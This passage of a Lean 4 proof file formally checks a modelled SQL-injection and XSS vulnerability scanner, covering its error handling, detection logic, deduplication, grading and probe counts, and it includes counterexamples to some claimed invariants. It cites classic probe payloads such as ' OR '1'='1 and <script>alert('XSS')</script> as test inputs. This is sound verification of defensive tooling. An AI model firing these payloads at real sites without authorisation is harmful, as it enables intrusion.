no scan record is created. (The fatal-with-200 path exists only for the
SQLi zero-parameter condition.) -/
theorem c1_malformed_url_escalates (envS : SqlEnv) (envX : XssEnv)
    (parse : String → Option ParsedUrl) (u : String) (pn cp : Option String)
    (lvl sc : String) (sd : Option String)
    (hu : u ≠ "") (hp : parse u = none) :
    sqlInjectionHandler envS parse (some u) pn lvl = .errorNext ∧
    xssScanHandler envX parse (some u) cp sc sd = .errorNext := by
  constructor
  · unfold sqlInjectionHandler
    simp [hu, hp]
  · unfold xssScanHandler
    simp [hu, hp]

/-- Witness for C1 (amended) at the concrete unparseable URL
`"http//missing-scheme"`. -/
theorem c1_malformed_url_escalates_witness :
    sqlInjectionHandler (testSqlEnv (some "ok")) parseURLModel
      (some "http//missing-scheme") none "basic" = .errorNext ∧
    xssScanHandler (testXssEnv "ok" []) parseURLModel
      (some "http//missing-scheme") none "reflected" none = .errorNext :=
  c1_malformed_url_escalates (testSqlEnv (some "ok")) (testXssEnv "ok" [])
    parseURLModel "http//missing-scheme" none none "basic" "reflected" none
    (by decide) (by decide)

/-- C8: a SQL-injection scan whose URL has no query parameters and whose
`paramNames` yields no non-empty names after splitting and trimming
produces `error = "No parameters found to test for SQL injection"`, empty
vulnerabilities and testedUrls, and issues no probe requests. -/
theorem c8_no_params_fatal (env : SqlEnv) (pu : ParsedUrl) (pn : Option String)
    (lvl : String) (h1 : pu.searchParams = [])
    (h2 : ∀ s, pn = some s → splitParams s = []) :
    sqlScan env pu pn lvl =
      { vulnerabilities := [], testedUrls := [], testedParams := [],
        error := some "No parameters found to test for SQL injection",
        requestCount := 0 } := by
  have htp : targetParams pu pn = [] := by
    unfold targetParams
    rw [h1]
    cases pn with
    | none => rfl
    | some s =>
      by_cases hs : s = ""
      · simp [hs]
      · simp only [List.map_nil, List.foldl_nil, if_neg hs]
        rw [h2 s rfl]
        rfl
  unfold sqlScan
  rw [htp]
  rfl

/-- Witness for C8 at `url = "https://example.com/"` (which parses with an
empty query) and absent `paramNames`. -/
theorem c8_no_params_fatal_witness :
    parseURLModel "https://example.com/" = some ⟨[]⟩ ∧
    sqlScan (testSqlEnv (some "ok")) ⟨[]⟩ none "basic" =
      { vulnerabilities := [], testedUrls := [], testedParams := [],
        error := some "No parameters found to test for SQL injection",
        requestCount := 0 } :=
  ⟨by decide, c8_no_params_fatal (testSqlEnv (some "ok")) ⟨[]⟩ none "basic" rfl
    (fun _ hs => nomatch hs)⟩

/-- C5: the reflected-XSS detector emits a finding for a (parameter,
payload) probe exactly when the raw payload appears in the first response
body AND the tokenized payload appears in the confirmation response body;
in particular, if the tokenized payload is absent from the confirmation
response, no finding is emitted even when the raw payload was present in
the first response. -/
theorem c5_reflected_token_confirmation (env : XssEnv) (param payload : String) :
    (reflectedStep env param payload).1.isSome = true ↔
      ((∃ b1, env.fetch (env.setParam param payload) = some b1 ∧
          containsStr b1 payload = true) ∧
       (∃ b2, env.fetch (env.setParam param (tokenizedOf env param payload)) = some b2 ∧
          containsStr b2 (tokenizedOf env param payload) = true)) :=
  reflectedStep_isSome_iff env param payload

/-- C10: tokenization replaces at most the first occurrence of "XSS"
(witnessed by `"XSSXSS"`), so for a payload not containing "XSS" the
tokenized payload is byte-identical to the original and the confirmation
check degenerates to re-checking the original payload's presence in the
second response. -/
theorem c10_tokenize_first_occurrence (env : XssEnv) (param payload : String)
    (h : containsStr payload "XSS" = false) :
    tokenizedOf env param payload = payload ∧
    replaceFirst "XSSXSS" "XSS" "a1b2" = "a1b2XSS" ∧
    ((reflectedStep env param payload).1.isSome = true ↔
      ∃ b, env.fetch (env.setParam param payload) = some b ∧
        containsStr b payload = true) := by
  have htok : tokenizedOf env param payload = payload :=
    replaceFirst_eq_of_not_contains _ _ _ h
  refine ⟨htok, by decide, ?_⟩
  rw [reflectedStep_isSome_iff, htok]
  constructor
  · rintro ⟨⟨b1, hb1, hc1⟩, -⟩
    exact ⟨b1, hb1, hc1⟩
  · rintro ⟨b, hb, hc⟩
    exact ⟨⟨b, hb, hc⟩, ⟨b, hb, hc⟩⟩

/-- Witness for C10 at `"'-prompt(1)-'"`, a deep-level catalog payload
with no "XSS" substring. -/
theorem c10_tokenize_first_occurrence_witness :
    ("'-prompt(1)-'" ∈ (defaultPayloads "deep").getD [] ∧
     containsStr "'-prompt(1)-'" "XSS" = false) ∧
    (tokenizedOf (testXssEnv "x" []) "q" "'-prompt(1)-'" = "'-prompt(1)-'" ∧
     replaceFirst "XSSXSS" "XSS" "a1b2" = "a1b2XSS" ∧
     ((reflectedStep (testXssEnv "x" []) "q" "'-prompt(1)-'").1.isSome = true ↔
       ∃ b, (testXssEnv "x" []).fetch ((testXssEnv "x" []).setParam "q" "'-prompt(1)-'")
          = some b ∧ containsStr b "'-prompt(1)-'" = true)) :=
  ⟨by decide, c10_tokenize_first_occurrence (testXssEnv "x" []) "q" "'-prompt(1)-'"
    (by decide)⟩

/-- C6: a probe of parameter "id" with payload `' OR '1'='1` whose
response body contains "You have an error in your SQL syntax" adds exactly
one high-severity finding with that parameter and payload, carrying the
matched error pattern (the first matching entry, "SQL syntax", itself a
substring of the body); and the same probe against a state that already
holds a finding for that (parameter, payload) pair adds nothing
(deduplication across responses). -/
theorem c6_sql_error_finding (env : SqlEnv) (st : SqlState) (body : String)
    (hfetch : env.fetch (env.setParam "id" "' OR '1'='1") = some body)
    (hbody : containsStr body "You have an error in your SQL syntax" = true)
    (hfresh : st.vulns.any
      (fun w => w.parameter == "id" && w.payload == "' OR '1'='1") = false) :
    ((processProbe env st "id" "' OR '1'='1").vulns =
      st.vulns ++ [mkErrorVuln "id" "' OR '1'='1"
        (env.setParam "id" "' OR '1'='1") "SQL syntax"]) ∧
    (mkErrorVuln "id" "' OR '1'='1" (env.setParam "id" "' OR '1'='1") "SQL syntax").severity
      = "high" ∧
    containsStr body "SQL syntax" = true ∧
    (∀ st2 : SqlState, st2.vulns.any
        (fun w => w.parameter == "id" && w.payload == "' OR '1'='1") = true →
      (processProbe env st2 "id" "' OR '1'='1").vulns = st2.vulns) := by
  have hsql : containsStr body "SQL syntax" = true :=
    containsStr_trans (by decide) hbody
  have hdet : sqlDetectError body = some "SQL syntax" := by
    unfold sqlDetectError errorPatterns
    exact List.find?_cons_of_pos _ hsql
  have hpush : pushUnique st.vulns
      (mkErrorVuln "id" "' OR '1'='1" (env.setParam "id" "' OR '1'='1") "SQL syntax") =
      st.vulns ++ [mkErrorVuln "id" "' OR '1'='1"
        (env.setParam "id" "' OR '1'='1") "SQL syntax"] := by
    unfold pushUnique
    rw [if_neg]
    simp only [mkErrorVuln]
    intro hcontra
    rw [hfresh] at hcontra
    cases hcontra
  have hblock : ∀ vs : List SqlVuln,
      vs.any (fun w => w.parameter == "id" && w.payload == "' OR '1'='1") = true →
      ∀ v : SqlVuln, v.parameter = "id" → v.payload = "' OR '1'='1" →
      pushUnique vs v = vs := by
    intro vs hvs v hv1 hv2
    unfold pushUnique
    rw [if_pos]
    rw [hv1, hv2]
    exact hvs
  refine ⟨?_, rfl, hsql, ?_⟩
  · unfold processProbe
    dsimp only
    rw [hfetch]
    dsimp only
    rw [hdet]
    dsimp only
    rw [hpush]
    split
    · split
      · rfl
      · split
        · rfl
        · exact hblock _ (by simp [List.any_append, mkErrorVuln]) _ rfl rfl
    · rfl
  · intro st2 hst2
    unfold processProbe
    dsimp only
    rw [hfetch]
    dsimp only
    rw [hdet]
    dsimp only
    rw [hblock _ hst2 _ rfl rfl]
    split
    · split
      · rfl
      · split
        · rfl
        · exact hblock _ hst2 _ rfl rfl
    · rfl

/-- Witness for C6 at a constant environment whose every response body is
the MySQL error banner. -/
theorem c6_sql_error_finding_witness :
    ((processProbe (testSqlEnv (some "You have an error in your SQL syntax"))
        ⟨[], [], 0⟩ "id" "' OR '1'='1").vulns =
      [] ++ [mkErrorVuln "id" "' OR '1'='1"
        ((testSqlEnv (some "You have an error in your SQL syntax")).setParam
          "id" "' OR '1'='1") "SQL syntax"]) ∧
    (mkErrorVuln "id" "' OR '1'='1"
      ((testSqlEnv (some "You have an error in your SQL syntax")).setParam
        "id" "' OR '1'='1") "SQL syntax").severity = "high" ∧
    containsStr "You have an error in your SQL syntax" "SQL syntax" = true ∧
    (∀ st2 : SqlState, st2.vulns.any
        (fun w => w.parameter == "id" && w.payload == "' OR '1'='1") = true →
      (processProbe (testSqlEnv (some "You have an error in your SQL syntax"))
        st2 "id" "' OR '1'='1").vulns = st2.vulns) :=
  c6_sql_error_finding (testSqlEnv (some "You have an error in your SQL syntax"))
    ⟨[], [], 0⟩ "You have an error in your SQL syntax" rfl (by decide) rfl

/-- C7: the XSS `securityScore` depends only on the multiset of finding
severities — `[] ↦ "A"`; any high-severity finding forces `"F"`; zero high
and more than two medium gives `"D"`; zero high and one or two medium
gives `"C"`; a non-empty list with neither high nor medium gives `"B"`;
and any two lists whose severity multisets agree grade identically. -/
theorem c7_security_score_grading :
    securityScore [] = "A" ∧
    (∀ l : List XssVuln, (∃ v ∈ l, v.severity = "high") → securityScore l = "F") ∧
    (∀ l : List XssVuln,
      (l.filter (fun v => v.severity == "high")).length = 0 →
      2 < (l.filter (fun v => v.severity == "medium")).length →
      securityScore l = "D") ∧
    (∀ l : List XssVuln,
      (l.filter (fun v => v.severity == "high")).length = 0 →
      0 < (l.filter (fun v => v.severity == "medium")).length →
      (l.filter (fun v => v.severity == "medium")).length ≤ 2 →
      securityScore l = "C") ∧
    (∀ l : List XssVuln, l ≠ [] →
      (l.filter (fun v => v.severity == "high")).length = 0 →
      (l.filter (fun v => v.severity == "medium")).length = 0 →
      securityScore l = "B") ∧
    (∀ l₁ l₂ : List XssVuln,
      (l₁.map XssVuln.severity).Perm (l₂.map XssVuln.severity) →
      securityScore l₁ = securityScore l₂) := by
  have hcnt : ∀ (l : List XssVuln) (sev : String),
      (l.filter (fun v => v.severity == sev)).length =
        List.countP (fun s => s == sev) (l.map XssVuln.severity) := by
    intro l sev
    rw [List.countP_map, List.countP_eq_length_filter]
    rfl
  refine ⟨rfl, ?_, ?_, ?_, ?_, ?_⟩
  · rintro l ⟨v, hv, hs⟩
    have hne : ¬(l.length = 0) := by
      simp only [List.length_eq_zero]
      exact List.ne_nil_of_mem hv
    have hhc : (l.filter (fun v => v.severity == "high")).length > 0 := by
      have hmem : v ∈ l.filter (fun v => v.severity == "high") :=
        List.mem_filter.mpr ⟨hv, by simp [hs]⟩
      exact List.length_pos.mpr (List.ne_nil_of_mem hmem)
    unfold securityScore
    rw [if_neg hne, if_pos hhc]
  · intro l h0 h2
    have hne : ¬(l.length = 0) := by
      have := lt_of_lt_of_le h2 (List.length_filter_le _ l)
      omega
    have hnh : ¬((l.filter (fun v => v.severity == "high")).length > 0) := by
      rw [h0]
      exact lt_irrefl 0
    unfold securityScore
    rw [if_neg hne, if_neg hnh, if_pos h2]
  · intro l h0 h1 h2
    have hne : ¬(l.length = 0) := by
      have := lt_of_lt_of_le h1 (List.length_filter_le _ l)
      omega
    have hnh : ¬((l.filter (fun v => v.severity == "high")).length > 0) := by
      rw [h0]
      exact lt_irrefl 0
    have hnd : ¬((l.filter (fun v => v.severity == "medium")).length > 2) := by omega
    unfold securityScore
    rw [if_neg hne, if_neg hnh, if_neg hnd, if_pos h1]
  · intro l hnil h0 hm
    have hne : ¬(l.length = 0) := by
      simp only [List.length_eq_zero]
      exact hnil
    have hnh : ¬((l.filter (fun v => v.severity == "high")).length > 0) := by
      rw [h0]
      exact lt_irrefl 0
    have hnd : ¬((l.filter (fun v => v.severity == "medium")).length > 2) := by
      rw [hm]
      omega
    have hnc : ¬((l.filter (fun v => v.severity == "medium")).length > 0) := by
      rw [hm]
      exact lt_irrefl 0
    unfold securityScore
    rw [if_neg hne, if_neg hnh, if_neg hnd, if_neg hnc]
  · intro l₁ l₂ hp
    have hlen : l₁.length = l₂.length := by
      have := hp.length_eq
      simpa using this
    have hh : (l₁.filter (fun v => v.severity == "high")).length =
        (l₂.filter (fun v => v.severity == "high")).length := by
      rw [hcnt, hcnt, hp.countP_eq]
    have hm : (l₁.filter (fun v => v.severity == "medium")).length =
        (l₂.filter (fun v => v.severity == "medium")).length := by
      rw [hcnt, hcnt, hp.countP_eq]
    unfold securityScore
    rw [hlen, hh, hm]

/-- Witness for C7: a single high-severity reflected finding grades "F". -/
theorem c7_security_score_grading_witness :
    securityScore [mkReflectedVuln "q" "<script>alert('XSS')</script>"] = "F" :=
  c7_security_score_grading.2.1 [mkReflectedVuln "q" "<script>alert('XSS')</script>"]
    ⟨mkReflectedVuln "q" "<script>alert('XSS')</script>", List.mem_singleton.mpr rfl, rfl⟩

/-- C2, counterexample: a DOM-type XSS scan of a page whose single script
reads `location.hash` into `innerHTML` emits three findings that all share
location "JavaScript" and payload `null` — the XSS route pushes one
DOM-sink finding per matching pattern with no dedup check, violating the
claimed (location, payload) dedup invariant. -/
theorem c2_dedup_counterexample :
    ((xssScan (testXssEnv "page" ["var h = location.hash; document.body.innerHTML = h;"])
        (some []) "dom" "https://example.com/" ⟨[]⟩).vulnerabilities.map
      (fun v => (v.location, v.payload))) =
      [("JavaScript", none), ("JavaScript", none), ("JavaScript", none)] ∧
    ¬ List.Pairwise (fun v w : XssVuln => ¬(v.location = w.location ∧ v.payload = w.payload))
      (xssScan (testXssEnv "page" ["var h = location.hash; document.body.innerHTML = h;"])
        (some []) "dom" "https://example.com/" ⟨[]⟩).vulnerabilities := by
  constructor
  · decide
  · decide

/-- C2 (amended): the dedup invariant holds for the SQL-injection
endpoint — in every SQLi ScanResult no two findings share both parameter
and payload (both detectors push through the dedup guard). The XSS
endpoint's DOM-sink and stored-form detectors push without a dedup check
and can emit duplicate (location, payload=null) pairs (see the
counterexample). -/
theorem c2_sqli_dedup_invariant (env : SqlEnv) (pu : ParsedUrl) (pn : Option String)
    (lvl : String) :
    List.Pairwise sqlVulnDistinct (sqlScan env pu pn lvl).vulnerabilities := by
  unfold sqlScan
  dsimp only
  split
  · exact List.Pairwise.nil
  · split
    · exact List.Pairwise.nil
    · dsimp only
      exact foldl_invariant (fun s : SqlState => List.Pairwise sqlVulnDistinct s.vulns)
        _ _ _ List.Pairwise.nil
        (fun st param hst =>
          foldl_invariant (fun s : SqlState => List.Pairwise sqlVulnDistinct s.vulns)
            _ _ _ hst
            (fun st2 payload h2 => processProbe_pairwise env st2 param payload h2))

/-- C3: when the XSS scan's URL has no query parameters, only the
*reported* `injectionPoints` field is replaced by `["page-content"]`; the
reflected probing loop iterates the (empty) injection-point map, so a
reflected-type scan issues zero probe requests and finds nothing — no
probe is ever made for the synthetic point, contradicting the inline
comment "If no URL parameters, run reflection tests on page content". -/
theorem c3_page_content_not_probed (env : XssEnv) (payloadsOpt : Option (List String))
    (url : String) (pu : ParsedUrl) (h : pu.searchParams = []) :
    (xssScan env payloadsOpt "reflected" url pu).injectionPoints = ["page-content"] ∧
    (xssScan env payloadsOpt "reflected" url pu).requestCount = 0 ∧
    (xssScan env payloadsOpt "reflected" url pu).vulnerabilities = [] := by
  have hpts : injectionPointsOf pu = [] := by
    unfold injectionPointsOf
    rw [h]
    rfl
  unfold xssScan
  rw [hpts]
  refine ⟨rfl, rfl, rfl⟩

/-- Witness for C3 at `url = "https://example.com/page"` (no query) with
the normal-depth catalog. -/
theorem c3_page_content_not_probed_witness :
    parseURLModel "https://example.com/page" = some ⟨[]⟩ ∧
    ((xssScan (testXssEnv "x" []) (defaultPayloads "normal") "reflected"
        "https://example.com/page" ⟨[]⟩).injectionPoints = ["page-content"] ∧
     (xssScan (testXssEnv "x" []) (defaultPayloads "normal") "reflected"
        "https://example.com/page" ⟨[]⟩).requestCount = 0 ∧
     (xssScan (testXssEnv "x" []) (defaultPayloads "normal") "reflected"
        "https://example.com/page" ⟨[]⟩).vulnerabilities = []) :=
  ⟨by decide, c3_page_content_not_probed (testXssEnv "x" []) (defaultPayloads "normal")
    "https://example.com/page" ⟨[]⟩ rfl⟩

/-- C9, counterexample: when the *first* payload's response confirms
fragment handling, one fragment request has been issued, not zero — so
"the number of fragment requests equals the (0-based) index of the first
confirming payload" fails at index 0. -/
theorem c9_fragment_counterexample :
    (fragmentLoop (testXssEnv "window.location.hash" []) ["<svg onload='alert(1)'>"]
      ⟨[], 0⟩).requestCount = 1 ∧
    (["<svg onload='alert(1)'>"].takeWhile
      (fun p => !fragConfirms (testXssEnv "window.location.hash" []) p)).length = 0 ∧
    (1 : Nat) ≠ 0 := by
  refine ⟨by decide, by decide, by decide⟩

/-- C9 (amended): the fragment probe stops at the first confirmed hit: the
number of fragment requests is one plus the 0-based index of the first
payload whose response confirms (its 1-based position), or the full
payload-list length when none confirms; correspondingly a DOM phase whose
baseline request succeeds issues 1 + that many requests. -/
theorem c9_fragment_termination (env : XssEnv) (ps : List String) (st : XssState)
    (url : String) (body : String) (hf : env.fetch url = some body) :
    ((fragmentLoop env ps st).requestCount = st.requestCount +
      (if ps.any (fun p => fragConfirms env p) = true
       then (ps.takeWhile (fun p => !fragConfirms env p)).length + 1
       else ps.length)) ∧
    ((domPhase env (some ps) url st).requestCount = st.requestCount + 1 +
      (if ps.any (fun p => fragConfirms env p) = true
       then (ps.takeWhile (fun p => !fragConfirms env p)).length + 1
       else ps.length)) := by
  refine ⟨fragmentLoop_count env ps st, ?_⟩
  unfold domPhase
  dsimp only
  rw [hf]
  dsimp only
  rw [fragmentLoop_count]

/-- Witness for C9 (amended): a two-payload list whose every response
confirms issues exactly one fragment request (plus the DOM baseline). -/
theorem c9_fragment_termination_witness :
    ((fragmentLoop (testXssEnv "window.location.hash" []) ["a", "b"] ⟨[], 0⟩).requestCount
      = (0 : Nat) +
      (if (["a", "b"].any
            (fun p => fragConfirms (testXssEnv "window.location.hash" []) p)) = true
       then (["a", "b"].takeWhile
         (fun p => !fragConfirms (testXssEnv "window.location.hash" []) p)).length + 1
       else (["a", "b"] : List String).length)) ∧
    ((domPhase (testXssEnv "window.location.hash" []) (some ["a", "b"]) "u"
        ⟨[], 0⟩).requestCount = (0 : Nat) + 1 +
      (if (["a", "b"].any
            (fun p => fragConfirms (testXssEnv "window.location.hash" []) p)) = true
       then (["a", "b"].takeWhile
         (fun p => !fragConfirms (testXssEnv "window.location.hash" []) p)).length + 1
       else (["a", "b"] : List String).length)) :=
  c9_fragment_termination (testXssEnv "window.location.hash" []) ["a", "b"] ⟨[], 0⟩
    "u" "window.location.hash" rfl

end EHT
